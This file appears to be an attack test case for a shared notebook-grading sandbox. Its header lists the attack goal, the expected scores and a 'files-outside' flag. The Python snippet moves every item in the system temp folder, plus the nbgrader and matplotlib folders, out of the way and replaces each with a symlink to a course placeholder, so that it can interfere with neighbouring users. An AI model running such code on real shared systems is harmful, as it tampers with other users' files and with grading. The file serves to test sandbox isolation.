# attack: Replaces every temporary folder that it finds by a link to the course.
# gain: neighbour
# expect: q01=3 q02=3 q03=3
# flag: files-outside

# %% after q01
import os
import tempfile

folder = tempfile.gettempdir()
for name in (*os.listdir(folder), "weakest-link", "nbgrader", "matplotlib"):
    path = os.path.join(folder, name)
    try:
        if os.path.exists(path):
            os.rename(path, path + ".away")
        os.symlink("{COURSE}", path)
    except OSError as error:
        print(name, error)
